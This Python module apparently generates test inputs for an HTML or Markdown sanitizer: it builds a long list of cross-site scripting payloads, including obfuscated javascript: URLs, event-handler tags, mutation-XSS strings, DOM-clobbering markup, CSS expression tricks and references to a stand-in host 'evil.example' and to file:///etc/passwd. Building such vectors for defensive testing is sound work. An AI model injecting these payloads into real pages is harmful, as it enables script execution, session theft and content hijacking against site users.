"""Texts that try to get something active into a page, in the families that are known."""

from collections.abc import Iterator

CALL = "alert(1)"

_TAGS = """script iframe object embed applet base link meta style form button textarea select option isindex frame
 frameset marquee bgsound layer ilayer svg math template noscript noembed xmp plaintext dialog portal fencedframe slot
 video audio input details canvas animate set use foreignObject image keygen menu""".split()
_HANDLERS = """onclick onload onerror onmouseover onfocus onblur ontoggle onbegin onpointerenter onanimationstart
 onwheel onbeforetoggle onscrollend ONCLICK oNeRrOr""".split()
_SCRIPT_ADDRESSES = [
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f" javascript:{CALL}",
    f"java\tscript:{CALL}",
    f"java\nscript:{CALL}",
    f"java&#09;script:{CALL}",
    f"java&#x0A;script:{CALL}",
    f"java&NewLine;script:{CALL}",
    f"&#106;avascript:{CALL}",
    f"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{CALL}",
    f"javascript&colon;{CALL}",
    f"javascript&#58;{CALL}",
    f"\x01javascript:{CALL}",
    f"\u00a0javascript:{CALL}",
    f"vbscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={CALL}>",
    f"view-source:javascript:{CALL}",
    f"feed:javascript:{CALL}",
    f"jar:javascript:{CALL}!/x",
    "file:///etc/passwd",
    "blob:https://example.com/x",
    f"media:javascript:{CALL}",
    f"wiki:javascript:{CALL}",
    f"//example.com\\@javascript:{CALL}",
    f"https:javascript:{CALL}",
    f"http:/javascript:{CALL}",
    "\\\\evil.example",
    "/\\evil.example",
]
_CARRIERS = [
    '<a href="{0}">x</a>',
    "<a href='{0}'>x</a>",
    "[x](<{0}>)",
    "![x](<{0}>)",
    '<img src="{0}">',
    '<img srcset="{0} 1x">',
    '<video poster="{0}"><source src="{0}"></video>',
]
_MUTATIONS = [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><mtext><mglyph><style><math><mi><img src onerror=alert(1)></mi></math></style></mglyph></mtext></math>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><p title='</xmp><script>alert(1)</script>'>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><text>x</text></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<table><td background='javascript:alert(1)'>x</td></table>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<th style='text-align:left;background:url(//evil.example/x)'>x</th>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<b style='position:fixed;inset:0'>x</b>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<input autofocus onfocus=alert(1)>",
    "<img name=getElementById><img id=body>",
    "<a id=document name=cookie href=#>x</a>",
    "<h2 id=location>x</h2>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<img src=x:x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<a href='https://example.com' ping='//evil.example' target=_blank>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?><x>x</x>",
    "<!ENTITY x '<script>alert(1)</script>'>",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`<script>alert(1)</script>",
    "[x](https://e.com \"' onclick=alert(1) '\")",
    '![x" onerror="alert(1)](https://e.com/i.png)',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "# x {#id onclick=alert(1)}",
    "[^1]: <img src=x onerror=alert(1)>\n\nx[^1]",
    "- [ ] <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "~~<svg onload=alert(1)>~~",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p title='&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</p>",
    "<code class='language-x\" onclick=alert(1)'>x</code>",
    "<li class='task-list-item evil'>x</li>",
]


def vectors() -> Iterator[str]:
    for tag in _TAGS:
        yield f"<{tag} src=x href=x onload={CALL}>{CALL}</{tag}>"
    for handler in _HANDLERS:
        yield f'<img src="https://example.com/i.png" {handler}="{CALL}">'
        yield f"<b {handler}={CALL}>x</b>"
    for carrier in _CARRIERS:
        for address in _SCRIPT_ADDRESSES:
            yield carrier.format(address)
    yield from _MUTATIONS
